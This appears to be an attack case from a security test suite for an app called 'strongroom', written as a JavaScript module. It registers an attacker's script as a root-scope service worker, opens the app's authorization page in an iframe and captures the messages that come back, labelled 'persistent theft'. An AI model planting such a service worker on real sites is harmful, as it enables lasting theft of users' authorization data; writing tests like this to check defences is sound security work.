import { attack } from "../attack.js";

export default attack({
  name: "a script file of the attacker's at the root of the app's origin as a service worker",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook(it) {
    navigator.serviceWorker.addEventListener("message", ({ data }) => it.steal(data));
    navigator.serviceWorker.startMessages();
  },
  async payload(it) {
    const registration = await navigator.serviceWorker.register(it.scriptUrl("/worker-of-the-attacker.js"), {
      scope: "/",
    });
    while (!registration.active?.scriptURL.endsWith("/worker-of-the-attacker.js")) await it.pause(50);
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
    // Keepers come to the new worker when their streams have ended, and not at once.
    await it.pause(6_000);
  },
  async play(stage) {
    await stage.playOwnWorker("/worker-of-the-attacker.js");
  },
});
